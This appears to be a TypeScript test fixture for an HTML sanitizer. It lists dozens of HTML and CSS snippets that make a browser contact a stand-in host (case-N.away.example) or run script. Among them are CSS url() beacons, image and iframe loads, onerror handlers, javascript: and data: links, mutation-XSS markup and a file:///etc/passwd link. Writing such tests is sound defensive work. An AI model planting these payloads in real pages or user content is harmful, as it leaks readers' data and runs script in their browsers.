/**
 * Every way by which HTML could call home or run something, one case each. `HOST` stands for a host of the case's own:
 * should its name ever be looked up, the browser's network log has it.
 */
const IN_STYLES: Readonly<Record<string, string>> = {
  import: "@import url(//HOST/a)",
  "import by name": '@import "//HOST/a"',
  background: "p{background:url(//HOST/a)}",
  "escaped url": "p{background:\\75 rl(//HOST/a)}",
  "image-set": 'p{background:image-set("//HOST/a" 1x)}',
  "prefixed image-set": "p{background:-webkit-image-set(url(//HOST/a) 1x)}",
  "cross-fade": "p{background:-webkit-cross-fade(url(//HOST/a),url(//HOST/b),50%)}",
  font: "@font-face{font-family:x;src:url(//HOST/a)}p{font-family:x}",
  "font by character": "@font-face{font-family:x;src:url(//HOST/a);unicode-range:U+63}p{font-family:x}",
  "content before": "p::before{content:url(//HOST/a)}",
  cursor: "p{cursor:url(//HOST/a),auto}",
  "list mark": "p{display:list-item;list-style-image:url(//HOST/a)}",
  mask: "p{mask-image:url(//HOST/a);-webkit-mask-image:url(//HOST/a)}",
  filter: "p{filter:url(//HOST/a#x)}",
  "clip path": "p{clip-path:url(//HOST/a#x)}",
  shape: "p{float:left;shape-outside:url(//HOST/a)}",
  border: "p{border:9px solid;border-image:url(//HOST/a) 1}",
  "attribute selector": 'p[class^="c"]{background:url(//HOST/a)}',
  variable: ":root{--a:url(//HOST/a)}p{background:var(--a)}",
  namespace: "@namespace url(//HOST/a);p{color:red}",
  keyframes: "@keyframes k{from{background:url(//HOST/a)}}p{animation:k 1s}",
};

const IN_MARKUP: Readonly<Record<string, string>> = {
  image: '<img src="//HOST/a">',
  "image with a scheme": '<img src="https://HOST/a">',
  "image srcset": '<img srcset="https://HOST/a 1x">',
  "image with leading space": '<img src="\n\thttps://HOST/a">',
  "low source": '<img lowsrc="https://HOST/a" dynsrc="https://HOST/b">',
  "lazy image": '<img loading="eager" fetchpriority="high" src="https://HOST/a">',
  picture: '<picture><source srcset="https://HOST/a"><img src="x"></picture>',
  "unfinished attribute": '<img src="https://HOST/?',
  video: '<video src="https://HOST/a" poster="https://HOST/b" autoplay></video>',
  "video source": '<video autoplay><source src="https://HOST/a"><track default src="https://HOST/b"></video>',
  audio: '<audio src="https://HOST/a" autoplay></audio>',
  frame: '<iframe src="https://HOST/a"></iframe>',
  "frame in a frame": "<iframe srcdoc=\"<img src='https://HOST/a'>\"></iframe>",
  frameset: '<frameset><frame src="https://HOST/a"></frameset>',
  fenced: '<fencedframe src="https://HOST/a"></fencedframe><portal src="https://HOST/b"></portal>',
  object: '<object data="https://HOST/a"><param name="src" value="https://HOST/b"></object>',
  embed: '<embed src="https://HOST/a">',
  applet: '<applet code="https://HOST/a" archive="https://HOST/b"></applet>',
  table: '<table background="https://HOST/a"><tr><td background="https://HOST/b">x</td></tr></table>',
  body: '<body background="https://HOST/a" onload="top.stolen=1">',
  "style attribute": '<p style="background:url(https://HOST/a)">x</p>',
  "image button": '<input type="image" src="https://HOST/a">',
  form: '<form action="https://HOST/a" id="f"><button autofocus>x</button></form><input form="f" formaction="https://HOST/b">',
  "style sheet": '<link rel="stylesheet" href="https://HOST/a">',
  icon: '<link rel="icon" href="https://HOST/a">',
  prefetch: '<link rel="prefetch" href="https://HOST/a"><link rel="prerender" href="https://HOST/b">',
  preload: '<link rel="preload" as="image" href="https://HOST/a"><link rel="modulepreload" href="https://HOST/b">',
  "look-up ahead": '<link rel="dns-prefetch" href="//HOST"><link rel="preconnect" href="//HOST">',
  "look-up switched on": '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://HOST/">x</a>',
  "a link alone": '<a href="https://HOST/the-secret">x</a>',
  manifest: '<link rel="manifest" href="https://HOST/a">',
  refresh: '<meta http-equiv="refresh" content="0;url=https://HOST/a">',
  "policy report": '<meta http-equiv="Content-Security-Policy" content="img-src *; report-uri https://HOST/a">',
  base: '<base href="https://HOST/"><img src="a"><a href="b">x</a>',
  ping: '<a href="https://example.com/" ping="https://HOST/a">x</a>',
  area: '<map name="m"><area href="https://HOST/a" shape="default"></map>',
  script: '<script src="https://HOST/a"></script><script>top.stolen=1</script>',
  speculation: '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://HOST/a"]}]}</script>',
  handlers: '<img src=x onerror="top.stolen=1"><details open ontoggle="top.stolen=1">x</details>',
  "SVG image": '<svg><image href="https://HOST/a" xlink:href="https://HOST/b"/></svg>',
  "SVG use": '<svg><use href="https://HOST/a#x"/></svg>',
  "SVG filter":
    '<svg><filter id="f"><feImage href="https://HOST/a"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
  "SVG style": "<svg><style>@import url(https://HOST/a);</style></svg>",
  "SVG script": '<svg onload="top.stolen=1"><script href="https://HOST/a"/></svg>',
  "SVG animation": '<svg><a><animate attributeName="href" values="https://HOST/a"/><text>x</text></a></svg>',
  "SVG foreign": '<svg><foreignObject><img src="https://HOST/a"></foreignObject></svg>',
  math: '<math href="https://HOST/a"><mi xlink:href="https://HOST/b">x</mi></math>',
  "mutating markup":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=https://HOST/a onerror=top.stolen=1&gt;">',
  template: '<template shadowrootmode="open"><img src="https://HOST/a"></template>',
  noscript: '<noscript><p title="</noscript><img src=https://HOST/a>">',
  "XML style sheet": '<?xml-stylesheet href="https://HOST/a"?>',
  "unknown reference":
    '<blockquote cite="https://HOST/a"><q cite="https://HOST/b">x</q><del cite="https://HOST/c">x</del></blockquote>',
  "attribution source": '<img attributionsrc="https://HOST/a"><a href="#" attributionsrc="https://HOST/b">x</a>',
};

/** Where a link may not lead. */
const SCHEMES: readonly string[] = [
  "javascript:top.stolen=1",
  "java\nscript:top.stolen=1",
  "vbscript:x",
  "data:text/html,<script>top.stolen=1</script>",
  "file:///etc/passwd",
  "blob:https://HOST/x",
  "filesystem:https://HOST/x",
  "view-source:https://HOST/",
  "chrome-extension://HOST/x",
  "intent://HOST#Intent;scheme=https;end",
  "ms-word:ofe|u|https://HOST/x",
  "search-ms:query=x&crumb=location:\\\\HOST\\x",
  "ftp://HOST/x",
  "ws://HOST/x",
  "//HOST/x",
];

/** The domain of every case's host. */
export const DOMAIN = "away.example";

function cases(entries: readonly (readonly [string, string])[]): readonly (readonly [string, string])[] {
  return entries.map(([name, html], index) => [name, html.replaceAll("HOST", `case-${index}.${DOMAIN}`)]);
}

export const EXFILTRATIONS = cases([
  ...Object.entries(IN_STYLES).map(
    ([name, css]) => [`CSS: ${name}`, `<style>${css}</style><p class="c">x</p>`] as const,
  ),
  ...Object.entries(IN_MARKUP),
  ...SCHEMES.map(
    (url) => [`a link to ${JSON.stringify(url)}`, `<a href="${url.replaceAll('"', "&quot;")}">x</a>`] as const,
  ),
]);
